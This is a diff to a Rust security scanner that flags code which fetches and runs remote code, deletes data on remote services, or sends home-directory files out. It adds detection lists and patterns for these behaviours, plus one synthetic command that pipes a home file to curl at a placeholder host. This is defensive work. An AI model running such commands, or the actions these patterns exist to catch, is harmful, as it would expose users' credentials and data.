@@ -209,6 +209,8 @@ const READ_CALLS: &[&str] = &[
     "read_text",
     "read_bytes",
     "readfile",
+    "readtextfile",
+    "read_to_string",
     "file.read",
     "io.read",
     "file_get_contents",
@@ -397,6 +399,14 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
     if runs_request_input(&lower) {
         out.facts |= fact::RUNS_REQUEST_INPUT;
     }
+    if runs_fetched_code(&lower) {
+        out.facts |= fact::REMOTE_CODE;
+    }
+    // A library call that deletes on another machine (a model hub's repository, a bucket, a
+    // warehouse's dataset, a database): the change a cloud command would make.
+    if REMOTE_DELETES.iter().any(|d| lower.match_indices(d).any(|(i, _)| i == 0 || !lower.as_bytes()[i - 1].is_ascii_alphanumeric())) {
+        out.facts |= fact::REMOTE_CHANGE;
+    }
     // Commands run through the language's process calls, and backquotes outside JavaScript.
     // Every call ends in `(` or `{`: found from those, in one pass, then taken call by call in
     // the order of the list, each from the start of the code.
@@ -444,12 +454,7 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
                 words.push(l);
                 end = l.end;
             }
-            if let Some((first, rest)) = words.split_first() {
-                let mut cmd = first.text.clone();
-                for w in rest {
-                    cmd.push(' ');
-                    cmd.push_str(&quote(&w.text));
-                }
+            if let Some(cmd) = command_line(&words) {
                 push(&mut out, home_to_tilde(&cmd));
             }
         }
@@ -491,6 +496,14 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
     }
     for l in lits.iter().filter(|l| lower[l.end..].trim_start().starts_with(".execute(")) {
         push(&mut out, home_to_tilde(&l.text));
+    }
+    // Groovy's `['sh', '-c', '…'].execute()`: the list's words, as a command line.
+    for (at, _) in lower.match_indices("].execute(") {
+        let Some(open) = lower[..at].rfind('[') else { continue };
+        let words: Vec<&Lit> = lits.iter().filter(|l| l.start > open && l.end <= at + 1).collect();
+        if let Some(cmd) = command_line(&words) {
+            push(&mut out, home_to_tilde(&cmd));
+        }
     }
     // Files deleted, written or read, named by a literal path (or home and a literal).
     // The calls the code makes at all: only those can be in one statement of it.
@@ -592,6 +605,12 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
         }
     }
     let network = NETWORK.iter().any(|n| lower.contains(n));
+    // A file of home the code works out when it runs (`[os.homedir(), '.np' + 'mrc'].join('/')`),
+    // read by code that talks to the network: judged as that file sent.
+    let home_expr = HOME_EXPRS.iter().any(|h| lower.contains(h)) || lower.contains("expanduser(") || lower.contains("deno.env.get('home')") || lower.contains("deno.env.get(\"home\")");
+    if network && home_expr && !reads.is_empty() {
+        push(&mut out, "cat -- ~/\"$v\" | curl -s --data-binary @- -- 'https://(where the code sends it)'".to_owned());
+    }
     // The whole environment, or a variable whose name says it holds a secret; a server reading
     // `PORT` is not sending anything.
     let dumps_env = ENV_DUMPS.iter().any(|d| lower.contains(d));
@@ -604,6 +623,18 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
         out.facts |= fact::CODE_SHELL_ON_SOCKET;
     }
     out
+}
+
+/// A command line of literals: the first as written (a program, or a whole shell line), the rest
+/// as its quoted arguments.
+fn command_line(words: &[&Lit]) -> Option<String> {
+    let (first, rest) = words.split_first()?;
+    let mut cmd = first.text.clone();
+    for w in rest {
+        cmd.push(' ');
+        cmd.push_str(&quote(&w.text));
+    }
+    Some(cmd)
 }
 
 /// Perl's and Ruby's spellings of home inside a command string (`$ENV{HOME}`, `#{Dir.home}`)
@@ -928,9 +959,70 @@ fn is_runner_code(name: &str) -> bool {
         || super::programs::tasks::is_task_file(name)
 }
 
+/// Whether a hook repository (`https://github.com/psf/black`) is one of the well-known hook
+/// authors', or a local or meta one (whose commands are judged as written).
+pub(crate) fn vetted_hook_repository(repo: &str) -> bool {
+    const OWNERS: &[&str] = &[
+        "pre-commit",
+        "psf",
+        "astral-sh",
+        "pycqa",
+        "charliermarsh",
+        "asottile",
+        "adrienverge",
+        "codespell-project",
+        "hadolint",
+        "koalaman",
+        "shellcheck-py",
+        "igorshubovych",
+        "davidanson",
+        "rhysd",
+        "crate-ci",
+        "editorconfig-checker",
+        "lucas-c",
+        "marcogorelli",
+        "hukkin",
+        "python-jsonschema",
+        "google",
+        "golangci",
+        "antonbabenko",
+        "gitleaks",
+        "zricethezav",
+        "yelp",
+        "commitizen-tools",
+        "compilerla",
+        "jumanjihouse",
+        "executablebooks",
+        "tox-dev",
+        "pylint-dev",
+        "python-poetry",
+        "pdm-project",
+        "biomejs",
+        "scop",
+        "sirosen",
+        "abravalheri",
+        "regebro",
+        "dnephin",
+        "thibaudcolas",
+        "evilmartians",
+    ];
+    let r = repo.to_ascii_lowercase();
+    if matches!(r.as_str(), "local" | "meta") {
+        return true;
+    }
+    let Some(rest) = r.strip_prefix("https://github.com/") else { return false };
+    rest.split('/').next().is_some_and(|owner| OWNERS.contains(&owner)) && !rest.contains("..")
+}
+
+/// Composer's configuration for every project (`~/.config/composer/config.json`).
+fn is_composer_config(name: &str, path: &str) -> bool {
+    name == "config.json" && (path.contains("/.config/composer/") || path.contains("/.composer/"))
+}
+
 /// Manifests and configuration that say where packages come from.
 fn is_source_file(name: &str, path: &str) -> bool {
     (path.contains("/.cargo/") && matches!(name, "config" | "config.toml"))
+        || is_composer_config(name, path)
         || matches!(
             name,
             "go.mod"
@@ -952,6 +1044,14 @@ fn is_source_file(name: &str, path: &str) -> bool {
                 | "go.work"
                 | "environment.yml"
                 | "environment.yaml"
+                | "packages.yml"
+                | "dependencies.yml"
+                | ".pre-commit-config.yaml"
+                | ".pre-commit-config.yml"
+                | "lefthook.yml"
+                | "lefthook.yaml"
+                | ".lefthook.yml"
+                | ".lefthook.yaml"
                 | "build.gradle"
                 | "build.gradle.kts"
                 | "settings.gradle"
@@ -983,6 +1083,7 @@ const CODE_EXTENSIONS: &[(&str, Lang)] = &[
     (".rs", Lang::Js),
     (".rb", Lang::Other),
     (".rake", Lang::Other),
+    (".gemspec", Lang::Other),
     (".gemspec", Lang::Other),
     (".pl", Lang::Other),
     (".pm", Lang::Other),
@@ -1060,6 +1161,9 @@ pub fn content_decides(path: &str) -> bool {
         || name.ends_with(".yml")
         || (name.ends_with(".json") && name != "package.json")
         || name.ends_with(".code-workspace")
+        || name.ends_with(".toml")
+        || name.ends_with(".ipynb")
+        || name.starts_with("Procfile")
         || name.contains("kubeconfig")
         || name.starts_with("Dockerfile")
         || name.ends_with("ockerfile")
@@ -1076,6 +1180,44 @@ pub fn content_decides(path: &str) -> bool {
 pub fn runs_by_itself(path: &str) -> bool {
     let name = path.rsplit('/').next().unwrap_or(path);
     is_makefile(name) || is_runner_code(name) || is_source_file(name, path) || name == "package.json" || name == ".envrc" || path.contains("/.git/hooks/") || path.contains("/.husky/")
+}
+
+/// A Jupyter notebook's code cells: the shell lines (`!cmd`, a `%%bash`/`%%sh`/`%%script sh`
+/// cell, `%system cmd`) and the Python code. Text that is no notebook JSON counts whole, as code.
+pub fn notebook_cells(text: &str) -> (Vec<String>, String) {
+    let (mut shell, mut code) = (Vec::new(), String::new());
+    let Ok(doc) = serde_json::from_str::<serde_json::Value>(text) else {
+        return (shell, text.to_owned());
+    };
+    for cell in doc.get("cells").and_then(|c| c.as_array()).into_iter().flatten() {
+        if cell.get("cell_type").and_then(|t| t.as_str()) == Some("markdown") || cell.get("cell_type").and_then(|t| t.as_str()) == Some("raw") {
+            continue;
+        }
+        let source = match cell.get("source") {
+            Some(serde_json::Value::Array(a)) => a.iter().filter_map(|l| l.as_str()).collect::<String>(),
+            Some(serde_json::Value::String(s)) => s.clone(),
+            _ => continue,
+        };
+        let first = source.lines().next().unwrap_or("").trim();
+        if ["%%bash", "%%sh", "%%script", "%%system", "%%!"].iter().any(|m| first.starts_with(m)) {
+            shell.push(source.lines().skip(1).collect::<Vec<_>>().join("\n"));
+            continue;
+        }
+        for l in source.lines() {
+            let t = l.trim_start();
+            // `!cmd`, `x = !cmd`, `%system cmd`, `%sx cmd`
+            let bang = t.strip_prefix('!').or_else(|| t.split_once("= !").map(|(_, c)| c)).or_else(|| t.strip_prefix("%system ")).or_else(|| t.strip_prefix("%sx "));
+            match bang {
+                Some(c) => shell.push(c.to_owned()),
+                None if t.starts_with('%') => {}
+                None => {
+                    code.push_str(l);
+                    code.push('\n');
+                }
+            }
+        }
+    }
+    (shell, code)
 }
 
 /// Lines of `new` that `old` does not hold: what an edit adds.
@@ -1129,7 +1271,7 @@ pub fn file_text(path: &str, new: &str, old: Option<&str>) -> FileText {
             .collect();
     } else if name == "pom.xml" {
         out.shell = maven_exec_commands(&added(new, old).join("\n"));
-    } else if is_compose_file(name) {
+    } else if is_compose_file(name) || is_compose_text(name, new) {
         out.shell = compose_commands(&added(new, old).join("\n"));
     } else if let Some(cmds) = super::programs::tasks::commands(name, new, None) {
         // A task file: the commands of its tasks, those an edit adds.
@@ -1142,11 +1284,21 @@ pub fn file_text(path: &str, new: &str, old: Option<&str>) -> FileText {
         // kubeconfig runs its credential plugins (`exec: command:`) whenever a client uses it.
         out.shell = kube_commands(&added(new, old).join("\n"));
         out.shell.extend(kubeconfig_commands(new));
+    } else if name.ends_with(".ipynb") {
+        // A notebook: its code cells run in Python when it is executed; `!cmd` lines and
+        // `%%bash` cells in the shell.
+        let (shell, code) = notebook_cells(new);
+        let (shell_before, code_before) = old.map(notebook_cells).unwrap_or_default();
+        out.shell = shell.into_iter().filter(|l| !shell_before.contains(l)).collect();
+        let code = added(&code, Some(&code_before)).join("\n");
+        if !code.trim().is_empty() {
+            out.code = Some((code, Lang::Other));
+        }
     } else if name.ends_with(".pth") {
         out.code = Some((added(new, old).join("\n"), Lang::Other));
     } else if let Some(lang) = code_language(name, new) {
         out.code = Some((added(new, old).join("\n"), lang));
-    } else if matches!(name, "Rakefile" | "Gemfile") {
+    } else if matches!(name, "Rakefile" | "Gemfile" | "Fastfile" | "Appfile" | "Matchfile" | "Pluginfile" | "Podfile" | "Brewfile" | "Vagrantfile" | "Guardfile" | "Dangerfile") {
         out.code = Some((added(new, old).join("\n"), Lang::Other));
     } else if name == "package.json" {
         out.shell = package_scripts(new, old);
@@ -1195,7 +1347,8 @@ pub fn file_text(path: &str, new: &str, old: Option<&str>) -> FileText {
         }
     }
     if is_source_file(name, path) {
-        out.source_change |= manifest_source(name, &added(new, old));
+        // Composer's own configuration takes the same `repositories` as a project's.
+        out.source_change |= manifest_source(if is_composer_config(name, path) { "composer.json" } else { name }, &added(new, old));
     }
     out
 }
@@ -1247,7 +1400,7 @@ fn terraform_commands(text: &str) -> Vec<String> {
 
 /// A curl or wget configuration's lines as that program's options: `key = value`, `key value`,
 /// `--key value`, `key` alone.
-fn config_options(program: &str, text: &str) -> Vec<String> {
+pub(crate) fn config_options(program: &str, text: &str) -> Vec<String> {
     let mut line = program.to_owned();
     for l in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
         let l = l.trim_start_matches('-');
@@ -1330,6 +1483,12 @@ fn maven_exec_commands(text: &str) -> Vec<String> {
 /// A Compose file, overrides included (`docker-compose.override.yml`, `compose.prod.yaml`).
 fn is_compose_file(name: &str) -> bool {
     (name.starts_with("docker-compose") || name.starts_with("compose.") || name.starts_with("podman-compose")) && (name.ends_with(".yml") || name.ends_with(".yaml"))
+}
+
+/// A Compose file under another name (one another includes, one given by `-f`): a YAML text
+/// with top-level `services:` that have an image or a build.
+fn is_compose_text(name: &str, text: &str) -> bool {
+    (name.ends_with(".yml") || name.ends_with(".yaml")) && text.lines().any(|l| l.trim_end() == "services:") && (text.contains("image:") || text.contains("build:"))
 }
 
 /// What a Compose file gives its containers of the host, as the `docker run` options that do the
@@ -1817,7 +1976,7 @@ fn dependency_elsewhere(v: &str) -> bool {
 }
 
 /// Lines of go.mod, Cargo.toml, .npmrc, pip.conf and the like that point packages elsewhere.
-fn manifest_source(name: &str, added: &[&str]) -> bool {
+pub(crate) fn manifest_source(name: &str, added: &[&str]) -> bool {
     added.iter().any(|l| {
         let l = l.trim();
         let lower = l.to_ascii_lowercase();
@@ -1829,6 +1988,66 @@ fn manifest_source(name: &str, added: &[&str]) -> bool {
                 lower.starts_with("replace") || (lower.contains("=>") && !lower.starts_with("//")) || dir.starts_with("..") || dir.starts_with('/') || dir.starts_with('~')
             }
             // A conda channel or a pip index given as an address, a package from a repository.
+            // Yarn's settings: any but those that only change how it lays out, caches and
+            // reports (registries, scopes, certificates, plugins, package extensions and
+            // checksum behaviour change where code comes from or how it is checked); its own
+            // release only from the project's `.yarn/releases/` (read when yarn runs).
+            ".yarnrc.yml" => {
+                const PLAIN: &[&str] = &[
+                    "nodeLinker",
+                    "enableTelemetry",
+                    "compressionLevel",
+                    "enableGlobalCache",
+                    "nmMode",
+                    "pnpMode",
+                    "enableImmutableInstalls",
+                    "enableProgressBars",
+                    "enableColors",
+                    "enableHyperlinks",
+                    "defaultSemverRangePrefix",
+                    "initScope",
+                    "initLicense",
+                    "initVersion",
+                    "enableInlineBuilds",
+                    "enableMirror",
+                    "preferInteractive",
+                    "enableHardenedMode",
+                    "nmHoistingLimits",
+                    "nmSelfReferences",
+                    "pnpEnableEsmLoader",
+                    "tsEnableAutoTypes",
+                    "enableTransparentWorkspaces",
+                    "preferReuse",
+                    "enableMessageNames",
+                    "changesetBaseRefs",
+                    "cacheFolder",
+                ];
+                let raw = added.iter().find(|x| x.trim() == l).copied().unwrap_or(l);
+                if l.starts_with('#') || l.is_empty() {
+                    false
+                } else if raw.starts_with([' ', '\t', '-']) {
+                    // Below a key: which one is not known here (a registry of a scope may be).
+                    true
+                } else {
+                    let (k, v) = l.split_once(':').unwrap_or((l, ""));
+                    let v = v.trim().trim_matches(['"', '\'']);
+                    !(PLAIN.contains(&k.trim()) || (k.trim() == "yarnPath" && v.starts_with(".yarn/releases/") && !v.contains("..")))
+                }
+            }
+            // Hooks from a repository of someone other than the well-known hook authors (a
+            // pre-commit `repo:`, a lefthook `remotes:` entry): their code runs on every commit.
+            ".pre-commit-config.yaml" | ".pre-commit-config.yml" | "lefthook.yml" | "lefthook.yaml" | ".lefthook.yml" | ".lefthook.yaml" => {
+                let l = lower.trim_start_matches("- ").trim();
+                match l.strip_prefix("repo:").or_else(|| l.strip_prefix("git_url:")) {
+                    Some(v) => !vetted_hook_repository(v.trim().trim_matches(['"', '\''])),
+                    None => false,
+                }
+            }
+            // dbt packages from a repository or an archive rather than dbt's hub.
+            "packages.yml" | "dependencies.yml" => {
+                let l = lower.trim_start_matches("- ");
+                (l.starts_with("git:") || l.starts_with("tarball:")) && !lower.starts_with('#')
+            }
             "environment.yml" | "environment.yaml" => {
                 !lower.starts_with('#')
                     && (lower.contains("git+")
@@ -2382,6 +2601,71 @@ fn hides_what_it_runs(lower: &str) -> bool {
         }
     }
     false
+}
+
+/// Library calls that delete on another machine.
+const REMOTE_DELETES: &[&str] = &[
+    "delete_repo(",
+    "deleterepo(",
+    "delete_space(",
+    "delete_bucket(",
+    "deletebucket(",
+    "remove_bucket(",
+    "delete_dataset(",
+    "delete_table(",
+    "delete_objects(",
+    "deleteobjects(",
+    "drop_database(",
+    "dropdatabase(",
+    "delete_collection(",
+    "delete_index(",
+    "delete_namespace(",
+    "delete_project(",
+    "delete_instance(",
+    "delete_db_instance(",
+    "delete_stack(",
+    // fastlane: revokes and deletes the team's signing certificates and profiles.
+    "match_nuke(",
+];
+
+/// Whether code (in lower case) runs code it fetches from another machine: an `eval`/`exec` of a
+/// fetch (`eval get("https://…")`, `exec(urlopen(u).read())`, `eval(await (await fetch(u))
+/// .text())`), or a model or hub repository loaded with its own code trusted
+/// (`trust_remote_code=True`, `torch.hub.load(…, trust_repo=True)`).
+fn runs_fetched_code(lower: &str) -> bool {
+    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
+    if squeezed.contains("trust_remote_code=true") || squeezed.contains("trust_repo=true") || squeezed.contains("trustremotecode:true") {
+        return true;
+    }
+    const RUNNERS: &[&str] = &["eval(", "eval ", "exec(", "new function(", "instance_eval(", "class_eval(", "execfile(", "runpy.run_path(", "vm.runinthiscontext(", "vm.runinnewcontext("];
+    const FETCHES: &[&str] = &["http", "urlopen", "fetch(", "requests.", "httpx.", "lwp", "net::http", "uri.open", "uri(", "axios", "curl", "wget", "get(", "socket"];
+    RUNNERS.iter().any(|r| {
+        lower.match_indices(r).any(|(i, _)| {
+            // `model.eval()`, `evaluate(`: a name ending in it, or called with nothing, is not it.
+            if i > 0 && (lower.as_bytes()[i - 1].is_ascii_alphanumeric() || lower.as_bytes()[i - 1] == b'_') {
+                return false;
+            }
+            let rest = &lower[i + r.len()..];
+            let mut end = floor_char(rest, rest.find('\n').unwrap_or(rest.len()).min(300));
+            if r.ends_with('(') {
+                // To the call's closing bracket (`model.eval()` holds nothing).
+                let mut depth = 1;
+                for (k, b) in rest.bytes().enumerate().take(end) {
+                    depth += match b {
+                        b'(' => 1,
+                        b')' => -1,
+                        _ => 0,
+                    };
+                    if depth == 0 {
+                        end = k;
+                        break;
+                    }
+                }
+            }
+            let arg = &rest[..end];
+            FETCHES.iter().any(|f| arg.contains(f))
+        })
+    })
 }
 
 /// Whether code (in lower case) runs what a web request sends it: a line that evaluates code or
